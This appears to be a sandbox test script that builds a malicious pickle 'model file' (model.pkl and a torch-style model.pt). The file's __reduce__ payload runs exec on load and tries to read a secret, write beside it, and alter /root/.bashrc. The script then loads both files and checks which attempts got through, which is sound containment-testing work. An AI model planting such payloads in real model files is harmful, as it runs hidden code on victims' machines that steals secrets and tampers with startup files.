"""15: a model file that runs a program when it is loaded."""

import io
import os
import pickle
import zipfile

from attempt import attempt, done, target


class Payload:
    def __reduce__(self):
        return exec, (
            "from attempt import *\n"
            "import os\n"
            "attempt('read a secret', lambda: read(target('SECRET')))\n"
            "attempt('write beside it', lambda: written(target('SECRET') + '.owned'))\n"
            "attempt('write into the home', lambda: written('/root/.bashrc'))\n"
            "open('/work/ran', 'a').write('x')\n",
        )


with open("model.pkl", "wb") as file:
    pickle.dump(Payload(), file)
with zipfile.ZipFile("model.pt", "w") as archive:  # as torch.save lays it out
    archive.writestr("archive/data.pkl", pickle.dumps(Payload()))
with open("model.pkl", "rb") as file:
    pickle.load(file)
with zipfile.ZipFile("model.pt") as archive:
    pickle.load(io.BytesIO(archive.read("archive/data.pkl")))
attempt("be there outside", lambda: os.path.exists(target("SECRET")))
done()
